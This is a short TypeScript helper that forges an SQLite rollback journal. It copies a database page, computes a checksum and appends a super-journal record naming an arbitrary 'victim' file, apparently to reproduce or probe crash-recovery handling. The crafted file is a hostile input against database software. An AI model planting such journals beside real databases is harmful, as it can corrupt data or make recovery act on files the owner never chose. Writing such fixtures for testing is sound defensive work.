import { readFileSync } from "node:fs";

/** A rollback journal that names a second file, as a crash in a transaction over two databases leaves it. */
export function journalNaming(database: string, victim: string): Buffer {
  const MAGIC = "d9d505f920a163d7";
  const whole = readFileSync(database);
  const size = whole.readUInt16BE(16) === 1 ? 65_536 : whole.readUInt16BE(16);
  const page = whole.subarray(0, size);
  const header = Buffer.alloc(512);
  header.write(MAGIC, "hex");
  for (const [i, value] of [1, 7, whole.length / size, 512, size].entries()) {
    header.writeUInt32BE(value, 8 + 4 * i);
  }
  let sum = 7;
  for (let i = size - 200; i > 0; i -= 200) sum = (sum + (page[i] ?? 0)) >>> 0;
  const number = (value: number): Buffer => {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32BE(value);
    return bytes;
  };
  const name = Buffer.from(victim);
  return Buffer.concat([
    ...[header, number(1), page, number(sum)],
    ...[number(0x4000_0000 / size + 1), name, number(name.length)],
    ...[number(name.reduce((total, byte) => total + byte, 0)), Buffer.from(MAGIC, "hex")],
  ]);
}
